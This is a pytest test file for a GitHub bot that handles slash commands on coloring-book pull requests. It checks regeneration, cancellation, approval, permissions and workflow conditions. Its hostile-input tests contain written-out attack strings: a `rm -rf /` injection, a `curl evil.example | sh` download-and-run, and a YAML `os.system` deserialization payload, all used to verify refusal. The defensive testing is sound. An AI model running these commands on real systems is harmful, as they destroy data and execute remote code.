"""Slash commands on the draft PR, with real `issue_comment` payloads against the fake
GitHub: /regenerate, /cover, /approve, /cancel, /help; permission; hostile comments."""

from __future__ import annotations

import copy
import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from bot.book.spec import load_spec, parse_spec
from bot.cli import main
from bot.github.checklist import Progress, parse_checklist, pr_body
from bot.github.events import parse_trigger
from bot.github.repo import GitHubRepo
from bot.github.review import handle_command
from bot.github.slash import Command, CommandError, apply, parse
from tests.conftest import ROOT, minimal_spec
from tests.fake_github import FakeGitHub, serving

WEBHOOKS = Path(__file__).parent / "fixtures" / "webhooks"
TOKEN = "ghs_fake_token_value_123456"
ISSUE, PR = 7, 8
BRANCH = f"ebook-generation-{ISSUE}"
SPEC_PATH = f"specs/ebook-{ISSUE}.yaml"
SUBJECTS = ["mandala", "maze", "stars", "shapes"]


def comment(body: str, sender: str = "Codertocat", number: int = PR) -> dict[str, Any]:
    """GitHub's issue_comment.created example, on a pull request (as GitHub sends it)."""
    data = copy.deepcopy(json.loads((WEBHOOKS / "issue_comment.created.json").read_text()))
    data["issue"]["number"] = number
    data["issue"]["pull_request"] = {
        "url": f"https://api.github.com/repos/Codertocat/Hello-World/pulls/{number}",
        "html_url": f"https://github.com/Codertocat/Hello-World/pull/{number}",
    }
    data["comment"]["body"] = body
    data["sender"]["login"] = sender
    return data


@pytest.fixture
def fake() -> Any:
    with serving() as gh:
        gh.permissions["Codertocat"] = "write"
        gh.refs[BRANCH] = "0" * 40
        spec = parse_spec(minimal_spec(trim="6x9", pages={"subjects": SUBJECTS}))
        gh.files[(BRANCH, SPEC_PATH)] = spec.to_yaml().encode()
        gh.pulls[PR] = {
            "state": "open",
            "draft": True,
            "title": "Coloring book: Test Book",
            "body": pr_body(ISSUE, Progress(done=frozenset({"spec", "cover"}))),
            "head": BRANCH,
            "base": "main",
        }
        yield gh


def run(fake: FakeGitHub, body: str, sender: str = "Codertocat", **kwargs: Any) -> Any:
    repo = GitHubRepo(
        TOKEN, fake.repo, api_url=fake.base, sleep=lambda s: None, seconds_between_writes=None
    )
    trigger = parse_trigger("issue_comment", comment(body, sender, **kwargs))
    return handle_command(trigger, repo, run_url="https://github.com/x/y/actions/runs/1")


def spec_on_branch(fake: FakeGitHub) -> Any:
    return parse_spec(yaml.safe_load(fake.files[(BRANCH, SPEC_PATH)]))


def replies(fake: FakeGitHub) -> list[str]:
    return [c["body"] for c in fake.comments.values()]


COMMENT_ID = 492700400


def test_slash_regenerate_pages_commits_the_spec_and_starts_generation(fake: FakeGitHub) -> None:
    result = run(fake, "/regenerate 2 3")
    assert result.outcome == "regenerating"
    spec = spec_on_branch(fake)
    assert {n: o.variant for n, o in spec.pages.overrides.items()} == {2: 1, 3: 1}
    assert spec.page_subjects() == SUBJECTS  # subjects unchanged, only new seeds
    assert fake.messages[-1].startswith("Regenerate pages 2, 3 (asked by @Codertocat in #8)")
    assert fake.dispatches[-1] == {
        "event_type": "generate-ebook",
        "client_payload": {"issue_number": ISSUE, "pull_number": PR, "comment_id": COMMENT_ID},
    }
    assert fake.reactions == [(COMMENT_ID, "eyes")]  # 🚀 comes when the book is remade
    # it says what it will do, and the checklist shows this run, not the last one
    (reply,) = replies(fake)
    assert reply.startswith("@Codertocat making pages 2, 3 again with new seeds;")
    assert "I will comment here when it is done" in reply
    progress = parse_checklist(fake.pulls[PR]["body"])
    assert progress.state == "running" and progress.done == {"spec", "cover"}
    assert (progress.pages_done, progress.pages_total) == (2, 4)
    assert "Making pages 2, 3 again (asked by @Codertocat)" in fake.pulls[PR]["body"]


def test_slash_regenerate_with_a_subject_writes_it_into_the_spec(fake: FakeGitHub) -> None:
    run(fake, "/regenerate 2 subject: ein schlafender Fuchs 🦊")
    spec = spec_on_branch(fake)
    assert spec.page_subjects()[1] == "ein schlafender Fuchs 🦊"
    assert spec.pages.overrides[2].variant == 1


def test_regenerate_again_draws_another_seed() -> None:
    spec = parse_spec(minimal_spec(pages={"subjects": SUBJECTS}))
    once = apply(spec, parse("/regenerate 3"))
    twice = apply(once, parse("/regenerate 3"))
    assert twice.pages.overrides[3].variant == 2
    assert parse_spec(yaml.safe_load(twice.to_yaml())) == twice  # the branch explains the book


def test_regenerate_remakes_only_the_named_pages(tmp_path: Path) -> None:
    """The ledger regenerates just the pages the command names; the PDFs are reassembled."""
    spec_file = tmp_path / "book.yaml"
    spec_file.write_text(
        parse_spec(minimal_spec(trim="6x9", pages={"subjects": SUBJECTS})).to_yaml()
    )
    out = tmp_path / "out"
    assert main(["build", str(spec_file), "--out", str(out)]) == 0
    before = {p.name: p.read_bytes() for p in (out / "pages").glob("*.png")}
    pdf_before = (out / "interior.pdf").read_bytes()
    spec_file.write_text(apply(load_spec(spec_file), parse("/regenerate 3")).to_yaml())
    assert main(["build", str(spec_file), "--out", str(out)]) == 0
    after = {p.name: p.read_bytes() for p in (out / "pages").glob("*.png")}
    assert sorted(n for n in before if before[n] != after[n]) == ["003.png", "003.thumb.png"]
    assert (out / "interior.pdf").read_bytes() != pdf_before


def test_slash_cover_asks_for_a_new_cover(fake: FakeGitHub) -> None:
    run(fake, "/cover")
    assert spec_on_branch(fake).cover.variant == 1
    assert fake.messages[-1].startswith("Regenerate a new cover")
    assert fake.dispatches[-1]["event_type"] == "generate-ebook"


def test_slash_approve_marks_the_pr_ready(fake: FakeGitHub) -> None:
    result = run(fake, "/approve")
    assert result.outcome == "approved"
    assert fake.pulls[PR]["draft"] is False
    assert fake.graphql[0]["variables"] == {"id": f"PR_node{PR}"}
    assert fake.reactions == [(COMMENT_ID, "eyes"), (COMMENT_ID, "rocket")]


def test_slash_cancel_cancels_this_books_runs_only(fake: FakeGitHub) -> None:
    fake.runs = {
        101: {
            "workflow": "ebook-book.yml",
            "display_title": "ebook book #7",
            "status": "in_progress",
        },
        102: {
            "workflow": "ebook-book.yml",
            "display_title": "ebook book #9",
            "status": "in_progress",
        },
        103: {"workflow": "ebook-book.yml", "display_title": "ebook book #7", "status": "queued"},
    }
    assert run(fake, "/cancel").outcome == "cancelled"
    assert fake.cancelled == [101, 103]
    body = fake.pulls[PR]["body"]
    assert "Generation cancelled by @Codertocat" in body
    assert parse_checklist(body).done == {"spec", "cover"}  # the ticks are kept
    assert fake.reactions[-1] == (COMMENT_ID, "rocket")
    # the run's report job then keeps who cancelled it
    from bot.github.outcome import mark_book

    repo = GitHubRepo(TOKEN, fake.repo, api_url=fake.base, seconds_between_writes=None)
    fake.add_issue(ISSUE, "the form")
    assert mark_book(repo, ISSUE, "cancelled", "https://github.com/x/y/actions/runs/3")
    body = fake.pulls[PR]["body"]
    assert "Generation cancelled by @Codertocat. ([run log](https://github.com/x/y/" in body
    assert parse_checklist(body).state == "cancelled"


def test_slash_cancel_also_cancels_a_run_waiting_in_the_books_group(fake: FakeGitHub) -> None:
    """A second request waits `pending` in the book's concurrency group (or `waiting` for
    the environment): /cancel that missed it would see it start right after."""
    book = {"workflow": "ebook-book.yml", "display_title": "ebook book #7"}
    fake.runs = {
        101: {**book, "status": "in_progress"},
        102: {**book, "status": "pending"},
        103: {**book, "status": "waiting"},
        104: {**book, "status": "completed"},
    }
    assert run(fake, "/cancel").outcome == "cancelled"
    assert sorted(fake.cancelled) == [101, 102, 103]


def test_slash_cancel_with_nothing_running_says_so(fake: FakeGitHub) -> None:
    assert run(fake, "/cancel").outcome == "invalid"
    assert replies(fake) == ["Nothing is being generated for this book right now."]
    assert fake.reactions[-1] == (COMMENT_ID, "confused")


def test_slash_help_and_unknown_command_reply_with_the_help(fake: FakeGitHub) -> None:
    run(fake, "/help")
    run(fake, "/frobnicate 3")
    first, second = replies(fake)
    assert "/regenerate 3 7" in first
    assert second.startswith("I don't know `/frobnicate`.") and "/regenerate 3 7" in second


def test_command_from_someone_without_write_access_is_refused(fake: FakeGitHub) -> None:
    before = fake.files[(BRANCH, SPEC_PATH)]
    assert run(fake, "/regenerate 2", sender="stranger").outcome == "unauthorized"
    assert "only people with write access" in replies(fake)[0]
    assert fake.reactions == [] and fake.dispatches == []
    assert fake.files[(BRANCH, SPEC_PATH)] == before


@pytest.mark.parametrize(
    ("body", "reply"),
    [
        ("/regenerate 0", "page 0 is not in this book (pages 1 to 4)"),
        ("/regenerate 1000000000", "page 1000000000 is not in this book"),
        ("/regenerate " + " ".join(str(i) for i in range(1, 1001)), "at most 50 pages"),
        ("/regenerate 1-100000", "at most 50 pages"),
        ("/regenerate 3; rm -rf /", "`3;` is not a page number"),
        ("/regenerate $(curl evil.example | sh)", "is not a page number"),
        ("/regenerate 2 3 subject: fox", "a new subject is for one page"),
        ("/regenerate 2 subject: " + "a" * 400, "at most 300 characters"),
        ("/regenerate 2 subject:   ", "the new subject is empty"),
        ("/regenerate 2 subject: a\x1b[31mfox", "control characters"),
        ("/regenerate @everyone", "`@\u200beveryone` is not a page number"),
        ("/approve now please", "`/approve` takes nothing after it"),
        ("/regenerate 1 " + "x" * 60_000, "is 60,014 characters long"),
        ("/" + "ä" * 20, "is not a command"),
    ],
)
def test_hostile_command_gets_one_clear_refusal_and_changes_nothing(
    fake: FakeGitHub, body: str, reply: str
) -> None:
    before = fake.files[(BRANCH, SPEC_PATH)]
    assert run(fake, body).outcome == "invalid"
    [answer] = replies(fake)
    assert reply in answer
    assert len(answer) < 300 and "@everyone" not in answer
    assert fake.files[(BRANCH, SPEC_PATH)] == before
    assert fake.dispatches == [] and fake.commits == []
    assert fake.reactions == [(COMMENT_ID, "eyes"), (COMMENT_ID, "confused")]


def test_subject_that_looks_like_yaml_or_shell_is_kept_as_plain_text(fake: FakeGitHub) -> None:
    run(fake, "/regenerate 1 subject: !!python/object/apply:os.system ['id'] `whoami`")
    text = fake.files[(BRANCH, SPEC_PATH)].decode()
    spec = spec_on_branch(fake)
    assert spec.page_subjects()[0] == "!!python/object/apply:os.system ['id'] `whoami`"
    assert "!!python" not in text.split("subjects")[0] or "'!!python" in text  # quoted


@pytest.mark.parametrize("body", ["Looks great!", "thanks /regenerate 2", "@everyone /cancel", ""])
def test_ordinary_comments_are_not_commands(fake: FakeGitHub, body: str) -> None:
    assert run(fake, body).outcome == "ignored"
    assert fake.reactions == [] and replies(fake) == []


def test_command_on_a_pr_that_is_not_a_book_is_ignored(fake: FakeGitHub) -> None:
    fake.pulls[20] = {
        "state": "open",
        "draft": False,
        "title": "x",
        "body": "",
        "head": "feature-x",
        "base": "main",
    }
    assert run(fake, "/approve", number=20).outcome == "ignored"
    assert fake.reactions == [] and fake.graphql == []


def test_command_comment_from_a_bot_and_edits_are_ignored(fake: FakeGitHub) -> None:
    assert run(fake, "/approve", sender="github-actions[bot]").outcome == "ignored"
    edited = json.loads((WEBHOOKS / "issue_comment.edited.json").read_text())
    assert parse_trigger("issue_comment", edited).kind == "ignore"
    plain = json.loads((WEBHOOKS / "issue_comment.created.json").read_text())
    assert parse_trigger("issue_comment", plain).kind == "ignore"  # an issue, not a PR


def test_handle_command_cli_with_a_real_event_file(
    fake: FakeGitHub,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    event = tmp_path / "event.json"
    event.write_text(json.dumps(comment("/regenerate 4")))
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    monkeypatch.setenv("GITHUB_REPOSITORY", fake.repo)
    monkeypatch.setenv("GITHUB_API_URL", fake.base)
    code = main(["handle-command", "--event", str(event), "--event-name", "issue_comment"])
    assert code == 0
    assert "regenerating: page 4" in capsys.readouterr().out
    assert spec_on_branch(fake).pages.overrides[4].variant == 1


def test_command_parser_names() -> None:
    assert parse("/regenerate 3-5, 7").pages == (3, 4, 5, 7)
    assert parse("  /Regenerate 2  ").name == "regenerate"
    with pytest.raises(CommandError):
        parse("/regenerate")


def _with_progress(fake: FakeGitHub, **state: Any) -> None:
    base = Progress(done=frozenset({"spec", "cover"}))
    fake.pulls[PR]["body"] = pr_body(ISSUE, replace(base, **state))


@pytest.mark.parametrize(
    ("state", "reason"),
    [
        ({"state": "failed"}, "Not approved: the last generation run failed."),
        ({"state": "cancelled"}, "Not approved: the last generation run was cancelled."),
        ({"state": "done", "flagged": ("page 002: empty page",)}, "QA flagged 1 page(s)"),
    ],
)
def test_approve_is_refused_after_a_failure_or_with_flagged_pages_unless_forced(
    fake: FakeGitHub, state: dict[str, Any], reason: str
) -> None:
    _with_progress(fake, **state)
    assert run(fake, "/approve").outcome == "invalid"
    (reply,) = replies(fake)
    assert reason in reply and "`/approve force`" in reply
    assert fake.pulls[PR]["draft"] is True and fake.graphql == []
    assert run(fake, "/approve force").outcome == "approved"
    assert fake.pulls[PR]["draft"] is False


def test_approve_after_a_clean_run(fake: FakeGitHub) -> None:
    _with_progress(fake, state="done")
    assert run(fake, "/approve").outcome == "approved"


def test_a_misspelt_command_gets_did_you_mean(fake: FakeGitHub) -> None:
    assert run(fake, "/regenrate 3").outcome == "invalid"
    (reply,) = replies(fake)
    assert reply == "I don't know `/regenrate`. Did you mean `/regenerate`?"
    assert fake.dispatches == []


def test_a_command_on_the_issue_gets_one_reply_pointing_to_the_pr(fake: FakeGitHub) -> None:
    data = json.loads((WEBHOOKS / "issue_comment.created.json").read_text())
    data["issue"]["number"] = ISSUE
    data["issue"]["labels"] = [{"name": "ebook-generation"}]
    data["comment"]["body"] = "/regenerate 2"
    repo = GitHubRepo(TOKEN, fake.repo, api_url=fake.base, seconds_between_writes=None)
    result = handle_command(parse_trigger("issue_comment", data), repo)
    assert result.outcome == "ignored"
    ((number, reply),) = [(c["issue"], c["body"]) for c in fake.comments.values()]
    assert number == ISSUE and f"pull request: #{PR}." in reply
    assert fake.dispatches == [] and fake.commits == [] and fake.reactions == []


def test_regenerate_refuses_the_users_own_images(fake: FakeGitHub) -> None:
    spec = parse_spec(minimal_spec(trim="6x9", pages={"subjects": SUBJECTS, "art": "art-7"}))
    fake.files[(BRANCH, SPEC_PATH)] = spec.to_yaml().encode()
    fake.files[(BRANCH, "specs/art-7/a.png")] = b"png"
    fake.files[(BRANCH, "specs/art-7/b.jpg")] = b"jpg"
    fake.files[(BRANCH, "specs/art-7/notes.txt")] = b"text"
    assert run(fake, "/regenerate 2").outcome == "invalid"
    (reply,) = replies(fake)
    assert reply.startswith("page 2 is one of your own images (`pages.art`)")
    assert fake.commits == [] and fake.dispatches == []
    assert run(fake, "/regenerate 3").outcome == "regenerating"  # a generated page


def test_regenerate_with_a_subject_names_it_in_the_commit(fake: FakeGitHub) -> None:
    run(fake, "/regenerate 2 subject: a sleeping fox")
    assert fake.messages[-1] == (
        "Regenerate page 2 with the new subject \u201ca sleeping fox\u201d "
        "(asked by @Codertocat in #8)"
    )


def _workflow_accepts(
    condition: str,
    body: str,
    *,
    pr: bool,
    labels: list[str],
    event: str = "issue_comment",
    head: str = "",
    head_repo: str = "octo-org/books",
) -> bool:
    """Evaluate the command workflow's `if:` (GitHub's expression syntax, the few parts it
    uses) for one comment."""
    names = {
        "github.event_name": "EVENT",
        "github.event.changes.body": "CHANGED",
        "github.event.pull_request.head.ref": "HEAD",
        "github.event.pull_request.head.repo.full_name": "HEAD_REPO",
        "github.repository": "REPO",
        "github.event.issue.labels.*.name": "LABELS",
        "github.event.issue.pull_request": "PR",
        "github.event.comment.body": "BODY",
    }
    python = re.sub(r"'((?:[^']|'')*)'", lambda m: repr(m.group(1).replace("''", "'")), condition)
    for name, variable in names.items():
        python = python.replace(name, variable)
    python = python.replace("||", " or ").replace("&&", " and ")
    assert "github." not in python, python  # a part this evaluator does not know
    scope = {
        "EVENT": event,
        "CHANGED": {"from": "old"} if event == "pull_request_target" else None,
        "HEAD": head,
        "HEAD_REPO": head_repo,
        "REPO": "octo-org/books",
        "LABELS": labels,
        "PR": {"url": "x"} if pr else None,
        "BODY": body,
        "fromJSON": json.loads,
        "startsWith": lambda text, prefix: str(text).lower().startswith(prefix.lower()),
        "contains": lambda seq, item: item in seq,
    }
    return bool(eval(python, {"__builtins__": {}}, scope))


@pytest.mark.parametrize(
    "body",
    ["/approve", "\n/approve", "\r\n/regenerate 2", "  /cover", "\n\n /help", "Looks good", ""],
)
@pytest.mark.parametrize("where", ["pr", "book issue", "other issue"])
def test_the_command_workflow_accepts_what_the_parser_accepts(body: str, where: str) -> None:
    from bot.github.slash import is_command

    workflow = yaml.safe_load((ROOT / "workflows" / "ebook-command.yml").read_text())
    condition = workflow["jobs"]["check"]["if"]
    labels = ["ebook-generation"] if where == "book issue" else ["bug"]
    accepted = _workflow_accepts(condition, body, pr=where == "pr", labels=labels)
    assert accepted == (is_command(body) and where != "other issue")


def ticked_event(fake: FakeGitHub, page: int, sender: str = "Codertocat") -> dict[str, Any]:
    """GitHub's pull_request example, as `edited`: the body with page `page`'s box ticked."""
    data = copy.deepcopy(json.loads((WEBHOOKS / "pull_request.opened.json").read_text()))
    before = fake.pulls[PR]["body"]
    after = before.replace(f"- [ ] [page {page:03d}]", f"- [x] [page {page:03d}]")
    assert after != before
    data["action"] = "edited"
    data["changes"] = {"body": {"from": before}}
    data["number"] = data["pull_request"]["number"] = PR
    data["pull_request"]["body"] = after
    data["sender"]["login"] = sender
    fake.pulls[PR]["body"] = after  # what GitHub holds once the box is ticked
    return data


def _flagged(fake: FakeGitHub) -> None:
    files = f"https://github.com/{fake.repo}/blob/abc/books/ebook-{ISSUE}"
    _with_progress(
        fake,
        state="done",
        files_url=files,
        flagged=("page 002: empty page", "page 003: 9 stray specks"),
    )


def test_ticking_a_flagged_pages_box_makes_it_again_and_unticks_it(fake: FakeGitHub) -> None:
    from bot.github.outcome import asker

    _flagged(fake)
    repo = GitHubRepo(TOKEN, fake.repo, api_url=fake.base, seconds_between_writes=None)
    result = handle_command(parse_trigger("pull_request_target", ticked_event(fake, 3)), repo)
    assert result.outcome == "regenerating" and result.detail == "page 3"
    assert {n: o.variant for n, o in spec_on_branch(fake).pages.overrides.items()} == {3: 1}
    (reply_id,) = fake.comments
    assert fake.comments[reply_id]["body"].startswith("@Codertocat making page 3 again")
    assert fake.dispatches[-1]["client_payload"]["comment_id"] == reply_id
    body = fake.pulls[PR]["body"]
    assert "- [ ] [page 003]" in body and "- [x] [page" not in body  # unticked
    assert parse_checklist(body).state == "running"
    # the run that remakes the page tells the person who ticked, and what changed
    who = asker(repo, ISSUE, reply_id)
    assert who.login == "Codertocat" and who.command == Command("regenerate", (3,))


def test_ticks_get_every_check_of_the_slash_command(fake: FakeGitHub) -> None:
    _flagged(fake)
    repo = GitHubRepo(TOKEN, fake.repo, api_url=fake.base, seconds_between_writes=None)
    stranger = handle_command(
        parse_trigger("pull_request_target", ticked_event(fake, 2, sender="stranger")), repo
    )
    assert stranger.outcome == "unauthorized" and fake.dispatches == [] and fake.commits == []
    spec = parse_spec(minimal_spec(trim="6x9", pages={"subjects": SUBJECTS, "art": "art"}))
    fake.files[(BRANCH, SPEC_PATH)] = spec.to_yaml().encode()
    fake.files[(BRANCH, "specs/art/1.png")] = fake.files[(BRANCH, "specs/art/2.png")] = b"png"
    _flagged(fake)
    own = handle_command(parse_trigger("pull_request_target", ticked_event(fake, 2)), repo)
    assert own.outcome == "invalid" and fake.dispatches == [] and fake.commits == []
    (reply,) = replies(fake)
    assert reply.startswith("@Codertocat page 2 is one of your own images")
    assert "- [ ] [page 002]" in fake.pulls[PR]["body"]  # unticked again
    # the bot's own edits and edits that tick nothing are not requests
    bot = ticked_event(fake, 3, sender="github-actions[bot]")
    assert handle_command(parse_trigger("pull_request_target", bot), repo).outcome == "ignored"


@pytest.mark.parametrize(
    ("head", "head_repo", "runs"),
    [
        ("ebook-generation-7", "octo-org/books", True),
        ("feature-x", "octo-org/books", False),
        ("ebook-generation-7", "mallory/books", False),  # a fork's branch of that name
    ],
)
def test_the_command_workflow_runs_for_body_edits_of_book_prs(
    head: str, head_repo: str, runs: bool
) -> None:
    workflow = yaml.safe_load((ROOT / "workflows" / "ebook-command.yml").read_text())
    condition = workflow["jobs"]["check"]["if"]
    assert workflow[True]["pull_request_target"]["types"] == ["edited"]  # YAML's `on`
    event = "pull_request_target"
    ran = _workflow_accepts(
        condition, "", pr=False, labels=[], event=event, head=head, head_repo=head_repo
    )
    assert ran == runs
